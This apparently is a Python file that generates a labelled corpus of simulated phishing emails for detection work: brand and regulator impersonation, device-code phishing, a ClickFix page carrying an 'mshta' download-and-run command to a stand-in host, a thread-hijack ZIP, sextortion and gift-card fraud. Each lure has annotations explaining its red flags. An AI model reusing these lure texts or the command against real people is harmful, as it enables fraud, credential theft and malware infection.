"""Attack messages, English (8)."""
from mailer import Mail
from mime import Text, Att, Multi
import infra as I
import tmpl as T
from company import S, MAIL, NAME, BANK
from common import alt, mixed, related, pdf_att, zip_att, b64s, PLACEHOLDER
import ids

MAILS = []
add = MAILS.append

# ---------------------------------------------------------------- 09 DocuSign look-alike
env9 = '3f1c8a52-7d4e-4b19-9a6c-2e8f0b7d5c41'
url9 = 'https://eu-docusign-notify.com/Signing/EmailStart.aspx?a=%s&etti=24&acct=9b2d4f60-1c3a-4e8b-b7d2-5a0f3c9e1d84&er=%s' % (env9, b64s(MAIL['uk_acc']))
p9 = """Gareth Hughes sent you a document to review and sign.

REVIEW DOCUMENT: %s

Gareth Hughes
gareth.hughes@midlandshaulage.co.uk

Hi Priya, please review and sign the revised tyre service agreement for 2027 (rev. 3, updated casing credit schedule). Thanks, Gareth

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
3F1C8A527D4E4B199A6C2E8F0B7D5C411

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.
""" % url9
h9 = T.brand_html('Docusign', 'Gareth Hughes sent you a document to review and sign.', [
    '<b>Gareth Hughes</b><br><a href="mailto:gareth.hughes@midlandshaulage.co.uk">gareth.hughes@midlandshaulage.co.uk</a>',
    'Hi Priya, please review and sign the revised tyre service agreement for 2027 (rev. 3, updated casing credit schedule). Thanks, Gareth'],
    'REVIEW DOCUMENT', url9, color='#1e1e62', logo_text='docusign',
    after_button=['<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.',
                  '<b>Alternate Signing Method</b><br>Visit Docusign.com, click \'Access Documents\', and enter the security code: 3F1C8A527D4E4B199A6C2E8F0B7D5C411'],
    footer='This message was sent to you by Gareth Hughes who is using the Docusign Electronic Signature Service.')
add(Mail(
    'docusign-lookalike-service-agreement', '2026-11-03 14:06:51', MAIL['uk_acc'],
    I.ses(region='eu-west-1', mail_from='bounce.eu-docusign-notify.com'),
    ('Gareth Hughes via Docusign', 'dse@eu-docusign-notify.com'),
    'Complete with Docusign: Midlands Haulage - Tyre Service Agreement 2027 (rev. 3).pdf',
    alt(p9, h9, 'utf-8', 'quoted-printable'),
    rcpt_name='Priya Sharma', reply_to=('Gareth Hughes', 'gareth.hughes@midlandshaulage.co.uk'), sent_delta=2,
    what='Fake DocuSign envelope "from" a real fleet customer asking to sign a revised tyre service agreement.',
    why='Sender domain eu-docusign-notify.com via Amazon SES (real DocuSign mail comes from eumail.docusign.net and links to eu.docusign.net); the button leads to a look-alike credential page carrying the recipient address.',
    tags=('brand impersonation: DocuSign', 'credential phishing: Microsoft 365', 'bulk ESP abuse (Amazon SES)')))

# ---------------------------------------------------------------- 10 Companies House
url10 = 'https://find-and-update.companieshouse-filing.uk/company/11478236/confirmation-statement'
p10 = """Dear Director,

Company name: EXAMPLE GROUP UK LTD
Company number: 11478236

Our records show that the confirmation statement for EXAMPLE GROUP UK LTD with a made up date of 14 October 2026 has not been delivered. The filing deadline was 28 October 2026.

It is a criminal offence under section 853L of the Companies Act 2006 not to deliver a confirmation statement within 14 days of the end of the review period. To avoid the company being struck off the register and a late filing penalty of £1,500 being issued, you must file the statement and pay the outstanding fee today.

File now: %s

You will need your company authentication code and your GOV.UK One Login to sign in.

Companies House
Crown Way, Cardiff, CF14 3UZ

This is an automated message, please do not reply.
""" % url10
h10 = T.brand_html('GOV.UK', 'Your confirmation statement is overdue', [
    'Dear Director,', 'Company name: <b>EXAMPLE GROUP UK LTD</b><br>Company number: <b>11478236</b>',
    'Our records show that the confirmation statement for EXAMPLE GROUP UK LTD with a made up date of 14 October 2026 has not been delivered. The filing deadline was 28 October 2026.',
    'It is a criminal offence under section 853L of the Companies Act 2006 not to deliver a confirmation statement within 14 days of the end of the review period. To avoid the company being struck off the register and a late filing penalty of <b>£1,500</b> being issued, you must file the statement and pay the outstanding fee today.'],
    'File now', url10, color='#0b0c0c', logo_text='GOV.UK  |  Companies House',
    after_button=['You will need your company authentication code and your GOV.UK One Login to sign in.'],
    footer='Companies House, Crown Way, Cardiff, CF14 3UZ. This is an automated message, please do not reply.',
    fontstack='Arial, sans-serif')
add(Mail(
    'companies-house-overdue-penalty', '2026-11-04 09:31:12', MAIL['uk_mgr'],
    I.sendgrid(em='em2214'),
    ('Companies House', 'noreply@companieshouse-filing.uk'),
    'Action required: confirmation statement overdue - EXAMPLE GROUP UK LTD (11478236)',
    alt(p10, h10, 'utf-8', 'quoted-printable'),
    rcpt_name='Oliver Bennett', sent_delta=2,
    what='"Companies House" warns that the UK subsidiary\'s confirmation statement is overdue, threatens strike-off and a £1,500 penalty, links to "file now".',
    why='Look-alike domain companieshouse-filing.uk via SendGrid (real mail comes via GOV.UK Notify from notifications.service.gov.uk and links to gov.uk); invented penalty; harvests the company authentication code and One Login credentials.',
    tags=('credential phishing: company register/regulator', 'bulk ESP abuse (SendGrid)', 'look-alike domain')))

# ---------------------------------------------------------------- 11 PayPal invoice TOAD
inv11 = 'INV2-XQ4K-8TDM-2WZR-7HLB'
h11 = T.brand_html('PayPal', 'Geek Squad Billing Dept sent you an invoice', [
    'Hello James Whitfield,',
    'Geek Squad Billing Dept sent you an invoice for <b>£389.99 GBP</b>.',
    'Due on receipt',
    '<b>Note from seller</b><br>Your Norton 360 Deluxe Total Protection (5 devices, 3 years) has been renewed automatically. '
    'The amount of £389.99 will be charged to your account within 24 hours. If you did not authorise this renewal or '
    'want to cancel and receive a refund, call our billing desk immediately on +44 808 157 0192 (Mon–Sun, 8am–10pm). '
    'Order ref: NRT-448-2917-UK'],
    'View and Pay Invoice', 'https://www.paypal.com/invoice/p/#%s' % inv11.replace('-', ''),
    table=[('Invoice number', '0448'), ('Invoice amount', '£389.99 GBP'), ('Due date', 'On receipt')],
    color='#003087', logo_text='PayPal',
    footer='Don\'t recognise this invoice? Report it at https://www.paypal.com/invoice/p/#%s.<br>'
           'PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg.' % inv11.replace('-', ''),
    fontstack='PayPal Sans, Helvetica Neue, Arial, sans-serif')
add(Mail(
    'paypal-invoice-callback-norton', '2026-11-09 16:18:05', MAIL['uk_sales'],
    I.custom(('mx0.slc.paypal.com', 'mx0.slc.paypal.com', '173.0.84.225'),
             hops=[('from ccg13mail07.slc.paypalinc.com (unknown [10.243.18.207])\n\tby mx0.slc.paypal.com (Postfix) with ESMTP id {qid}', 'PT', True, 1)],
             msgid=lambda ctx: '<%s.%d@ccg13mail07>' % (I.hx(ctx.rng, 16), int(ctx.t_sent.timestamp()) ),
             style='esp', tls='1.2', return_path='bounce@paypal.co.uk', date_zone='PT', boundary='javamail',
             extra=[('X-MaxCode-Template', 'PPC001017'), ('X-Email-Type-Id', 'PPC001017'),
                    ('PP-Correlation-Id', lambda ctx: I.hx(ctx.rng, 13)),
                    ('X-PP-REQUESTED-TIME', lambda ctx: str(int(ctx.t_sent.timestamp() * 1000)))]),
    ('PayPal', 'service@paypal.co.uk'),
    'Geek Squad Billing Dept sent you an invoice for £389.99 GBP',
    Text(h11, 'html', 'utf-8', 'quoted-printable'),
    rcpt_name='James Whitfield', sent_delta=3, henc='Q',
    what='Genuine PayPal invoice notification created by a fraudulent "Geek Squad Billing" merchant for a £389.99 Norton renewal, with a phone number to "cancel".',
    why='Callback phishing (TOAD) abusing a genuine service: the seller note pushes the victim to call +44 808 157 0192 where the scammer obtains remote access/payment; unknown merchant, unsolicited consumer invoice to a business address.',
    tags=('callback phishing (TOAD)', 'abused genuine service (PayPal invoicing)')))

# ---------------------------------------------------------------- 12 device-code phishing
p12 = """Hi Oliver,

As discussed on the phone last week, I've put together our 2027 haulage rates ex Felixstowe and the capacity plan for your Q1 tyre imports. Can we go through it on Teams this afternoon at 15:00?

Our IT have tightened external access to our tenant, so guests now have to be verified before the meeting opens. To join:

1. Go to https://microsoft.com/devicelogin
2. Enter the code: HRZ7QMTKB
3. Sign in with your Example Group account - you'll then be admitted from the lobby.

The code is only valid for 15 minutes, so please do it when you're ready to join.

Cheers,
Dave

Dave Clarke | Commercial Director
Clarke Freight Services Ltd
Dock Road, Felixstowe, Suffolk IP11 3SW
"""
h12 = T.owa_html(p12, 'us-ascii') .replace(
    'https://microsoft.com/devicelogin', '<a href="https://microsoft.com/devicelogin">https://microsoft.com/devicelogin</a>')
add(Mail(
    'device-code-teams-rate-review', '2026-11-17 13:48:29', MAIL['uk_mgr'],
    I.m365(obe=5, server='LO4P265MB6821', region='gbrp265', lang='en-GB'),
    ('Dave Clarke', 'd.clarke@clarkefreight-services.co.uk'),
    'Clarke Freight - 2027 rate review (Teams, today 15:00)',
    alt(p12, h12, 'us-ascii', 'quoted-printable', quoted=True),
    rcpt_name='Oliver Bennett', sent_delta=5,
    what='"Carrier" invites to a Teams rate review and asks the recipient to enter a code at microsoft.com/devicelogin.',
    why='Device-code phishing: the code was generated by the attacker, entering it signs the attacker\'s session into the victim\'s Microsoft 365 account (token theft). Look-alike domain clarkefreight-services.co.uk (real: clarkefreight.co.uk) in an attacker M365 tenant.',
    tags=('device-code phishing', 'Teams pretext', 'look-alike domain')))

# ---------------------------------------------------------------- 13 ClickFix HTML attachment
cf_html = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Statement of account - Brennan Tyre Distribution</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>
body{margin:0;background:#f9f9f9;font-family:-apple-system,Segoe UI,Roboto,Helvetica,Arial,sans-serif;color:#313131}
.wrap{max-width:560px;margin:60px auto;background:#fff;border:1px solid #e0e0e0;border-radius:6px;padding:28px 32px}
.blur{filter:blur(3px);color:#999;font-size:13px;line-height:20px;margin-bottom:24px}
.box{border:1px solid #d9d9d9;border-radius:4px;padding:14px 16px;display:flex;align-items:center;gap:12px;background:#fafafa}
.chk{width:24px;height:24px;border:2px solid #c1c1c1;border-radius:3px;background:#fff}
ol{padding-left:20px;line-height:26px}
kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-size:13px}
code{display:block;background:#f1f1f1;border:1px solid #ddd;padding:8px;font-size:12px;margin-top:8px;word-break:break-all}
.small{font-size:11px;color:#777;margin-top:18px}
</style></head>
<body><div class="wrap">
<div class="blur">BRENNAN TYRE DISTRIBUTION LTD &middot; STATEMENT OF ACCOUNT &middot; 30/11/2026<br>
Customer: EXAMPLE GROUP UK LTD &middot; Account EXA014<br>
INV 88412 &middot; 14/09/2026 &middot; 1,406.20<br>INV 88519 &middot; 28/09/2026 &middot; 1,406.20<br>INV 88701 &middot; 12/10/2026 &middot; 1,406.20<br>
Balance overdue: GBP 4,218.60</div>
<div class="box"><div class="chk"></div><div><b>Verify you are human</b><br><span style="font-size:12px;color:#666">Document protection by Cloudflare</span></div></div>
<p style="margin-top:22px"><b>Verification steps</b></p>
<ol>
<li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li>
<li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li>
<li>Press <kbd>Enter</kbd></li>
</ol>
<p style="font-size:13px">If the verification code was not copied automatically, copy it from below:</p>
<code>mshta https://verify-cdn-check.invalid/v/418207 # I am not a robot - reCAPTCHA Verification ID: 418207</code>
<p class="small">Ray ID: 8e1f4c2a9b7d3e01 &middot; Performance &amp; security by Cloudflare</p>
</div></body></html>
"""
p13 = """Dear Customer,

Please find attached your statement of account as at 30/11/2026. Our records show 3 invoices overdue totalling GBP 4,218.60.

For data protection the statement is provided as a secure document. If prompted, please complete the human verification to view it.

We would be grateful if you could arrange payment or let us know if there are any queries.

Kind regards

Accounts Department
Brennan Tyre Distribution Ltd
Unit 12, Hams Hall Distribution Park, Coleshill B46 1AL
"""
add(Mail(
    'clickfix-statement-html', '2026-12-01 10:12:47', MAIL['uk_acc'],
    I.exim_cpanel('uk1003.hostpoint-cloud.co.uk', '185.151.30.142', client_ip='127.0.0.1', phpmailer=True,
                  cpuser='brennant'),
    ('Accounts | Brennan Tyre Distribution', 'accounts@brennantyres.co.uk'),
    'Statement of account - November 2026 (3 items overdue)',
    mixed(Text(p13, 'plain', 'us-ascii', '7bit'),
          Att('Statement_EXAMPLEGROUPUK_30112026.html', cf_html.encode('utf-8'), 'text/html; charset=utf-8',
              note='fake "Verify you are human" page with ClickFix Win+R/Ctrl+V instructions; no script')),
    rcpt_name='Priya Sharma', sent_delta=2,
    what='"Statement of account" from a UK tyre distributor with an HTML attachment that shows a fake CAPTCHA telling the user to press Win+R, Ctrl+V, Enter.',
    why='ClickFix: the page makes the user paste and run an mshta command (here pointing to a .invalid host, inert); sent by a PHP mailer script on a compromised cPanel host; unknown supplier.',
    tags=('ClickFix', 'HTML attachment', 'compromised website (PHPMailer)')))

# ---------------------------------------------------------------- 14 thread hijack + encrypted ZIP
q14 = """On Thu, 22 Oct 2026 at 10:41, Priya Sharma <priya.sharma@example.com> wrote:
> Hi Sarah,
>
> Could you please resend invoice CFS-26-3381? The container number on our
> copy (MSKU 7718203) does not match our booking, it should be MSKU 7718230.
>
> Thanks,
> Priya
>
> Priya Sharma | Accountant
> Example Group UK Ltd, Birmingham
"""
p14 = """Hi Priya,

Sorry for the delay. Please find the revised invoices for October attached as requested.

File is password protected due to our new data security policy.
Password: CFS1126

Kind regards,
Accounts
Clarke Freight Services Ltd

"""
add(Mail(
    'thread-hijack-clarke-zip', '2026-11-19 07:02:16', MAIL['uk_acc'],
    I.gmail(date_zone='UK', host='mail-ej1-f52.google.com', ip='209.85.218.52'),
    ('Clarke Freight Accounts', 'accounts@clarkefreight.co.uk'),
    'Re: Invoice CFS-26-3381 - container MSKU 7718203',
    mixed(alt(p14 + q14, T.gmail_html(p14, quoted=q14.split('\n', 1)[1].replace('> ', '').replace('>', ''),
                                      quote_intro=q14.split('\n', 1)[0]), 'UTF-8', None, html_cte='quoted-printable', quoted=True),
          zip_att('CFS_Revised_Invoices_Oct2026.zip', [('CFS_Revised_Invoices_Oct2026.pdf.js', PLACEHOLDER)],
                  password='CFS1126', seed='cfs-zip', when=(2026, 11, 18, 22, 41, 10))),
    rcpt_name='Priya Sharma', zip_password='CFS1126',
    irt='<b41e9d07a2c64f3a9e58d1c7f20a6b3e@EXMBX02.corp.example.com>',
    refs='<b41e9d07a2c64f3a9e58d1c7f20a6b3e@EXMBX02.corp.example.com>', sent_delta=5,
    what='Reply to a four-week-old invoice thread from the carrier\'s real mailbox with a password-protected ZIP "revised invoices".',
    why='Thread hijack from a compromised partner mailbox (genuine Google Workspace infrastructure): generic text that ignores the question, ZipCrypto archive (password in body) hiding a .pdf.js script name — malware-delivery pattern (QakBot/Pikabot style).',
    tags=('thread hijack (compromised partner mailbox)', 'password-protected archive', 'malware delivery (script in ZIP)')))

# ---------------------------------------------------------------- 15 sextortion, spoofed own address
btc = BANK['btc']
p15 = """Hello!

I have to share bad news with you.
Approximately a few months ago I have gained access to your devices, which you use for internet browsing and for your work email (james.whitfield@example.com).
After that, I started tracking your internet activities.

Here is the sequence of events:
Some time ago I bought access to email accounts from hackers (nowadays it is quite simple to buy it online). I easily managed to log in to your email account and install a driver-based trojan in the operating systems of all devices you use to access your email.
Since then I have been able to see everything on your screen, switch on your camera and microphone, and read your messages and contacts.

I have made a video compilation of you that shows you visiting adult websites, recorded together with your camera.
With one click I can send this video to all your contacts, colleagues and customers.

I suppose you would not want this to happen.
Transfer 1450 USD (US dollars) to my Bitcoin wallet. If you do not know how to do that, search "buy bitcoin" on Google.

My Bitcoin wallet (BTC): %s

You have 48 hours after opening this message. I can see when you read it.
After receiving the payment I will delete the video and you will never hear from me again.
Do not reply to this email, and do not contact the police - I will know immediately.
""" % btc
add(Mail(
    'sextortion-btc-own-address', '2026-11-23 04:27:55', MAIL['uk_sales'],
    I.custom(('[113.185.43.97]', None, '113.185.43.97'),
             msgid=lambda ctx: '<%s$%s@example.com>' % (I.hx(ctx.rng, 12, True), I.hx(ctx.rng, 6, True)),
             style='generic', tls=None, return_path='james.whitfield@example.com', date_zone='ICT',
             mailer=[('X-Mailer', 'Microsoft Outlook Express 6.00.2900.5512'), ('X-Priority', '3'),
                     ('X-MSMail-Priority', 'Normal')]),
    ('James Whitfield', 'james.whitfield@example.com'),
    'Security alert: james.whitfield@example.com has been compromised',
    Text(p15, 'plain', 'utf-8', 'base64'),
    rcpt_name='James Whitfield', sent_delta=30,
    what='Sextortion e-mail claiming device compromise and a webcam video; demands USD 1,450 in Bitcoin within 48 hours.',
    why='Extortion scam: From spoofs the recipient\'s own address but arrives directly from a Vietnamese broadband IP without TLS or a matching HELO; Bitcoin address %s (valid bech32).' % btc,
    tags=('extortion (sextortion, Bitcoin)', 'spoofed own domain', 'direct-to-MX from botnet')))

# ---------------------------------------------------------------- 16 gift cards
p16 = """Hi Oliver,

Are you in the office today? I need you to handle a small task for me discreetly.

We are giving appreciation gifts to a few key fleet customers after the meeting at the NEC tomorrow and I want it sorted before they arrive. I need 10 Apple gift cards of £200 each. Can you pick them up at Tesco or Currys today? You can claim it back on expenses, I will approve it.

Once you have them, scratch the back, take clear photos of the codes and send them to me here. Please keep it between us for now, it's meant to be a surprise.

I'm in back-to-back meetings so email only.

Thanks
Jürgen

Sent from my iPhone
"""
add(Mail(
    'gift-cards-ceo-gmail', '2026-11-25 12:09:33', MAIL['uk_mgr'],
    I.gmail(date_zone='WAT', host='mail-lf1-f44.google.com', ip='209.85.167.44'),
    ('Jürgen Köhler', 'j.koehler.ceo@gmail.com'),
    'Quick task',
    alt(p16, T.gmail_html(p16), 'UTF-8', 'quoted-printable'),
    rcpt_name='Oliver Bennett', sent_delta=7,
    what='"CEO" from a Gmail address asks the UK office manager to buy ten £200 Apple gift cards for customers and send photos of the codes.',
    why='Gift-card scam: CEO display name on a free-mail address, secrecy, urgency, "email only", codes requested by photo.',
    tags=('BEC: gift cards', 'free-mail impersonation')))
